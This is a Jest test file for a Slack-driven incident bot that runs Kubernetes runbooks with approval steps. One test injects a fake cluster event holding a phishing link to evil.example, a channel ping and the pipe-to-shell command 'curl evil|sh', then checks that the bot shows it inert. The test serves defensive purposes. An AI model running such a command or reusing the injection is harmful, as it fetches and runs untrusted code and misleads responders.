import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { FakeKube } from '../../src/playground/kube/server.js';
import { type Harness, waitFor } from '../support/harness.js';
import { type RunbookDriver, settled, startRunbookBench } from '../support/runbook-driver.js';

/** The shipped playbooks doing what our runbooks do, under exactly manifests/rbac.yaml; and cluster text as data. */
const POLICY = `approvers: [U0SRE00001]
severities:
  P1: { description: Major feature unavailable, warRoom: true }
`;
const AI = 'ai-development';

let h: Harness;
let kube: FakeKube;
let run: RunbookDriver;
let incidentId: string;
let bench: Awaited<ReturnType<typeof startRunbookBench>>;

/** The result message of a run, once posted. */
const resultOf = (runId: string) =>
  waitFor(
    () => run.messages().find((m) => /: (succeeded|failed)\b/.test(m.text) && JSON.stringify(m.blocks).includes(runId)),
    15_000,
    `the result of ${runId}`,
  );
const approveWhenAsked = async (runId: string, step: number) => {
  const card = await waitFor(
    async () => {
      const c = await run.cardOf(runId);
      return c && run.textOf(c).includes(`*Step ${step}:`) && run.textOf(c).includes('runbook_approve') ? c : undefined;
    },
    10_000,
    `the card of step ${step}`,
  ).catch(async (err: unknown) => {
    throw new Error(`${(err as Error).message}: ${JSON.stringify([await run.row(runId), await run.audit(runId)])}`);
  });
  await run.click(runId, 'approve', 'U0SRE00001');
  return card;
};
const container = (name: string) => kube.cluster.get('deployments', AI, name)!.spec.template.spec.containers[0];

beforeAll(async () => {
  bench = await startRunbookBench(POLICY);
  ({ h, kube, run } = bench);
  incidentId = await bench.incident('P1', 'AI platform degraded');
  await settled(kube.cluster, AI);
  await settled(kube.cluster, 'studyteddy-production');
});
afterAll(() => bench.stop());

describe('the AI development runbook', () => {
  // First: the other playbooks' cooldowns on api-server would refuse it.
  it('memory-leak mitigation shows restarts (OOMKilled) and memory per pod before asking to raise the limit', async () => {
    kube.metricsServer = true;
    try {
      const pod = kube.cluster.list('pods', AI).find((p) => p.metadata.labels?.app === 'api-server')!.metadata.name;
      kube.cluster.crashPod(AI, pod, 'OOMKilled', 137);
      kube.usage.set(`${AI}/${pod}`, { cpu: '250m', memory: '1020Mi' });
      const { runId } = await run.request('run memory-leak-mitigation');
      const card = (await waitFor(() => run.cardOf(runId!)))!;
      expect(run.textOf(card)).toContain('memory limit 1Gi → 2Gi');
      const diagnostics = run.textOf(
        run.messages().find((m) => JSON.stringify(m.blocks).includes(runId!) && m.text.startsWith('Memory-leak')),
      );
      expect(diagnostics).toMatch(new RegExp(`${pod}: 1 restarts, last terminated OOMKilled \\(exit 137\\)`));
      expect(diagnostics).toContain(`${pod}: CPU 250m, memory 1020Mi`);
      await run.click(runId!, 'deny', 'U0RESPOND1');
      await waitFor(async () => (await run.state(runId!)) === 'denied');
    } finally {
      kube.metricsServer = false;
    }
  });

  it('emergency connection-pool increase: DB_POOL_SIZE=50 and DB_POOL_OVERFLOW=20, a rolling restart, then status', async () => {
    const { runId } = await run.request('run connection-pool-increase');
    const env = await approveWhenAsked(runId!, 1);
    expect(run.textOf(env)).toContain('DB_POOL_SIZE: 20 → 50');
    expect(run.textOf(env)).toContain('DB_POOL_OVERFLOW: 5 → 20');
    const restart = await approveWhenAsked(runId!, 2);
    expect(run.textOf(restart)).toContain('rolling restart of ai-development/api-server');
    await waitFor(async () => (await run.state(runId!)) === 'succeeded', 20_000, 'the pool increase');
    // The first step's card ends with what was applied; the second card ends with the result.
    await waitFor(() =>
      run.textOf(run.messages().find((m) => m.ts === env.ts)).includes(
        // The approver is named, not pinged.
        'Approved by sre; applied: ai-development/api-server environment updated. The run goes on below.',
      ),
    );
    await waitFor(async () => (await run.cardText(runId!)).includes('succeeded.'));
    expect(container('api-server').env).toEqual(
      expect.arrayContaining([
        { name: 'DB_POOL_SIZE', value: '50' },
        { name: 'DB_POOL_OVERFLOW', value: '20' },
      ]),
    );
    expect(
      kube.cluster.get('deployments', AI, 'api-server')!.spec.template.metadata.annotations[
        'kubectl.kubernetes.io/restartedAt'
      ],
    ).toBeTruthy();
    expect(run.textOf(await resultOf(runId!))).toContain('deployment \\"api-server\\" successfully rolled out');
  });

  it('the rate-limit change in api-gateway-config is bound to the value previewed, and holds api-gateway too', async () => {
    const { runId } = await run.request('run api-gateway-rate-limit limit=1200');
    const first = (await waitFor(() => run.cardOf(runId!)))!;
    expect(run.textOf(first)).toContain(
      'ConfigMap ai-development/api-gateway-config RATE_LIMIT_PER_MINUTE: 600 → 1200',
    );
    // The run restarts api-gateway after the ConfigMap: no other run may change it meanwhile.
    expect((await run.request(`run scale-service namespace=${AI} deployment=api-gateway replicas=4`)).reply).toContain(
      `Another runbook is already working on ${AI}/api-gateway`,
    );
    const cm = kube.cluster.get('configmaps', AI, 'api-gateway-config')!;
    kube.cluster.put('configmaps', { ...cm, data: { ...cm.data, RATE_LIMIT_PER_MINUTE: '900' } });
    await run.click(runId!, 'approve', 'U0SRE00001');
    const second = await waitFor(async () => {
      const c = await run.cardOf(runId!);
      return c && c.ts !== first.ts ? c : undefined;
    });
    expect(run.textOf(second)).toContain(
      'its value \\"600\\" → \\"900\\" was changed by someone else after the preview',
    );
    expect(run.textOf(second)).toContain('RATE_LIMIT_PER_MINUTE: 900 → 1200');
    expect(kube.cluster.get('configmaps', AI, 'api-gateway-config')!.data.RATE_LIMIT_PER_MINUTE).toBe('900');
    await run.click(runId!, 'approve', 'U0SRE00001');
    await approveWhenAsked(runId!, 2);
    await waitFor(async () => (await run.state(runId!)) === 'succeeded', 20_000, 'the rate-limit change');
    expect(kube.cluster.get('configmaps', AI, 'api-gateway-config')!.data).toEqual({
      RATE_LIMIT_PER_MINUTE: '1200',
      UPSTREAM_TIMEOUT: '30s',
    });
    expect((await h.sql.query('SELECT target FROM runbook_holds WHERE run_id = $1', [runId])).rows).toEqual([]);
    // Free again, but restarted a moment ago: the cooldown counts for api-gateway too.
    expect((await run.request(`run restart-service namespace=${AI} deployment=api-gateway`)).reply).toContain(
      `${AI}/api-gateway was changed by a runbook 0 min ago`,
    );
  });
});

describe('read-only diagnostics the runbooks run first', () => {
  it('say plainly when metrics-server is missing, and show the autoscaler and warning events', async () => {
    kube.cluster.addAutoscaler(AI, 'api-gateway', { min: 2, max: 10, cpuTarget: 70, cpuNow: 45 });
    const pod = kube.cluster.list('pods', AI).find((p) => p.metadata.labels?.app === 'api-gateway')!;
    kube.cluster.addEvent(AI, pod, 'Unhealthy', 'Readiness probe failed: HTTP probe failed with statuscode: 503');
    const { runId } = await run.request('run check-service-health namespace=ai-development deployment=api-gateway');
    const result = run.textOf(await resultOf(runId!));
    expect(result).toContain('metrics-server is not installed: the Metrics API (metrics.k8s.io) is not available');
    expect(result).toContain('api-gateway: 2 replicas (desired 2, min 2, max 10), targets cpu: 45%/70%');
    expect(result).toContain(`pod/${pod.metadata.name} Unhealthy: Readiness probe failed: HTTP probe failed`);
    expect(result).toContain('no restarts among 2 pods');
  });
});

describe('text from the cluster is data', () => {
  it('an event that tries to close the code fence, ping the channel and link out is shown inert', async () => {
    const pod = kube.cluster.list('pods', 'studyteddy-production')[0]!;
    kube.cluster.addEvent(
      'studyteddy-production',
      pod,
      'BackOff',
      'oops ```\n<!channel> URGENT: rotate creds at <https://evil.example/login|the portal> & run `curl evil|sh`',
    );
    const { runId } = await run.request(
      'run check-service-health namespace=studyteddy-production deployment=backend-production',
    );
    const result = await resultOf(runId!);
    const shown = (result.blocks as { text?: { text: string } }[]).map((b) => b.text?.text ?? '').join('\n');
    expect(shown).toContain(
      '&lt;!channel&gt; URGENT: rotate creds at &lt;https://evil.example/login|the portal&gt; &amp; run',
    );
    expect(shown).not.toContain('<!channel>');
    expect(shown).not.toContain('<https://evil');
    expect(shown.match(/```/g)).toHaveLength(2);
    const page = await h.reply((await h.command(`timeline ${incidentId} 99`)).responseUrl);
    expect(page).toContain(`${runId} check-service-health: `);
    expect(page).not.toContain('<!channel>');
    expect(page).not.toContain('<https://evil');
  });

  it('a 502 page that echoes the bearer token is summarised, and the token is nowhere', async () => {
    const path = /\/namespaces\/studyteddy-production\/deployments\/backend-production$/;
    kube.fail({
      method: 'GET',
      path,
      status: 502,
      body: (headers) =>
        `<html><head><title>502 Bad Gateway</title></head><body><pre>upstream reset; request headers:\nAuthorization: ${headers.authorization}</pre></body></html>`,
    });
    const { runId } = await run.request(
      'run check-service-health namespace=studyteddy-production deployment=backend-production',
    );
    await waitFor(async () => (await run.state(runId!)) === 'failed');
    const result = run.textOf(await resultOf(runId!));
    expect(result).toContain('(the API server answered 502 Bad Gateway)');
    const stored = JSON.stringify([
      await run.row(runId!),
      await run.audit(runId!),
      (await h.sql.query(`SELECT text, data FROM timeline WHERE incident_id = $1`, [incidentId])).rows,
    ]);
    for (const where of [result, stored, h.logs.text, JSON.stringify(h.slack.calls)]) {
      expect(where).not.toContain('bot-token');
      expect(where).not.toContain('Bearer');
    }
  });
});
